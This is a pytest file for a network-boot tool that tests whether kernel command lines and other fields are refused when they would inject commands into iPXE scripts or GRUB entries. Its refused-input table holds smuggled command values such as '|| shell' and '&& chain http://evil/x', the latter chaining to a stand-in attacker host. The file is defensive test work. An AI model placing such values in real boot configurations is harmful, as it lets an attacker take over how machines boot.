"""No profile command line (nor MAC, URL, name or token) can change the commands of layerbootd's iPXE script or
of an A/B slot's GRUB entry: refused at 'profile create/set', checked again when rendering (issue 11 item 4)."""

from __future__ import annotations

import re

import pytest

from layerboot.errors import LayerbootError
from layerboot.overlays.cmdline import CmdlineError, check_cmdline, check_ipxe_word, grub_words
from layerboot.overlays.profile import Profiles
from layerboot.server.ipxe import BootScript, ipxe_commands

D1, D2 = "1" * 64, "2" * 64
TOKEN = "lbb1.525400123456.1000.2000." + "a" * 32
# One case per iPXE separator class (exec.c: comment words, ||, &&, ;; settings expansion; script.c: line
# breaks and backslash continuation) and the kernel's own quoting.
REFUSED = {
    "console=ttyS0 || shell": "command separator",
    "console=ttyS0 && chain http://evil/x": "command separator",
    "console=ttyS0 ; shell": "command separator",
    "console=ttyS0 #layerboot.server=x": "comment",
    "console=ttyS0 root=${root-path}": "'${'",
    "console=ttyS0 ${net0/mac}": "'${'",
    "console=ttyS0\nshell": "character 14 is '\\n'",
    "console=ttyS0\rshell": "character 14 is '\\r'",
    "console=ttyS0\tquiet": "character 14 is '\\t'",
    "console=ttyS0\x0bquiet": "character 14 is '\\x0b'",
    "console=ttyS0\x0cquiet": "character 14 is '\\x0c'",
    'console=ttyS0 foo="unbalanced': "unbalanced double quote",
    "console=ttyS0 quiet\\": "ends with a backslash",
    "console=ttyS0 \u00a0quiet": "only printable ASCII",
    "console=ttyS0 \x1b[31m": "only printable ASCII",
    "x" * 1537: "at most 1536",
}
# Hostile-looking, but each is one word to iPXE and to the kernel: accepted and passed through unchanged.
ACCEPTED = 'console=ttyS0 lbipxe=a||b;c#d&&e$HOME{x} "quoted arg"=1 foo=";" --'


@pytest.mark.parametrize("cmdline, reason", REFUSED.items(), ids=range(len(REFUSED)))
def test_profile_commands_refuse_every_separator_class(profiles: Profiles, make_layer, cmdline: str,  # noqa: ANN001
                                                       reason: str) -> None:
    base = make_layer({"etc/a": "a"}, kind="base")
    with pytest.raises(LayerbootError, match=re.escape(reason)) as refused:
        profiles.create("web", base, cmdline=cmdline)
    assert "\n" not in refused.value.message and refused.value.hint
    profiles.create("web", base, cmdline="console=ttyS0")
    with pytest.raises(LayerbootError, match=re.escape(reason)):
        profiles.set_boot("web", cmdline=cmdline)
    assert profiles.current("web").cmdline == "console=ttyS0"


def test_the_cli_says_it_in_one_line(profiles: Profiles, make_layer, capsys) -> None:  # noqa: ANN001
    from layerboot.tools.cli import main

    base = make_layer({"etc/a": "a"}, kind="base")
    assert main(["--store", str(profiles.paths.root), "profile", "create", "web", "--base", base,
                 "--cmdline", "quiet || shell"]) == 1
    err = capsys.readouterr().err.splitlines()
    assert err[0] == ("layerboot: error: the command line of profile web is refused: word '||' is an iPXE command "
                      "separator (it would start another command)") and err[1].startswith("layerboot: hint: ")


def _script(**changes: str) -> BootScript:
    values = dict(base="http://10.0.0.1:8080", mac="52:54:00:12:34:56", profile="web", token=TOKEN, kernel=D1,
                  initrd=D2, cmdline=ACCEPTED)
    values.update(changes)
    return BootScript(**values)


def test_a_valid_hostile_looking_cmdline_renders_to_exactly_the_intended_commands() -> None:
    script = _script().render()
    commands = ipxe_commands(script)
    assert [c[0] for c in commands] == ["echo", "kernel", "initrd", "boot"]
    kernel = commands[1]
    assert kernel[1] == f"http://10.0.0.1:8080/objects/{D1}?token={TOKEN}" and kernel[2] == "initrd=initrd"
    assert kernel[3:] == [*ACCEPTED.split(), "BOOTIF=01-${netX/mac:hexhyp}", "layerboot.server=http://10.0.0.1:8080",
                          "layerboot.node=52:54:00:12:34:56", "layerboot.profile=web", f"layerboot.token={TOKEN}"]
    assert " ".join(kernel[3:]).startswith(ACCEPTED)        # what iPXE hands the kernel: the same text


@pytest.mark.parametrize("cmdline", [c for c in REFUSED if len(c) < 100], ids=range(len(REFUSED) - 1))
def test_rendering_refuses_what_a_stored_profile_should_never_have(cmdline: str) -> None:
    with pytest.raises(CmdlineError):
        _script(cmdline=cmdline).render()


@pytest.mark.parametrize("field, value", [
    ("base", "http://10.0.0.1:8080/x #"), ("base", "http://h/${x}"), ("base", "http://h/a b"),
    ("base", "http://h/\\"), ("mac", "52:54:00:12:34:56 ||"), ("profile", "#web"), ("token", "&&"),
    ("token", ""), ("kernel", ";"), ("initrd", "x\ny"),
])
def test_every_other_value_is_checked_too(field: str, value: str) -> None:
    with pytest.raises(CmdlineError, match="cannot go into an iPXE script"):
        _script(**{field: value}).render()


def test_the_ipxe_model_follows_ipxes_rules() -> None:
    """The reader the renderer checks itself with: comments, separators, labels, continuations, CRLF."""
    assert ipxe_commands("#!ipxe\necho a # not this\n") == [["echo", "a"]]
    assert ipxe_commands("echo a || echo b && echo c ; echo d\n") == [["echo", "a"], ["echo", "b"], ["echo", "c"],
                                                                   ["echo", "d"]]
    assert ipxe_commands("echo a||b;c#d\n") == [["echo", "a||b;c#d"]]        # only whole words separate
    assert ipxe_commands(":label echo x\r\nkernel a \\\nb\n") == [["echo", "x"], ["kernel", "a", "b"]]
    assert ipxe_commands("echo\ta\x0bb\x0cc\n") == [["echo", "a", "b", "c"]]


def test_plain_words_for_the_script() -> None:
    assert check_ipxe_word("http://10.0.0.1:8080", "url") == "http://10.0.0.1:8080"
    assert check_cmdline("") == ""
    with pytest.raises(CmdlineError):
        check_ipxe_word("a\\", "x")


def test_grub_entries_quote_every_word_and_refuse_what_grub_would_rewrite() -> None:
    assert grub_words("console=ttyS0 a;b $x {y} x|y#z") == "'console=ttyS0' 'a;b' '$x' '{y}' 'x|y#z'"
    for bad in ("it's", 'a="b c"', "back\\slash"):
        with pytest.raises(CmdlineError):
            grub_words(bad)
    from layerboot.build.bootloader import slot_entry

    entry = slot_entry("0f0f0f0f-0000-4000-8000-000000000001", "console=ttyS0 $root;reboot", "web")
    assert entry.splitlines()[0] == ("linux /boot/vmlinuz 'layerboot.slot=UUID=0f0f0f0f-0000-4000-8000-000000000001' "
                                     "'layerboot.profile=web' 'panic=10' 'layerboot.emergency=reboot' "
                                     "'console=ttyS0' '$root;reboot'")
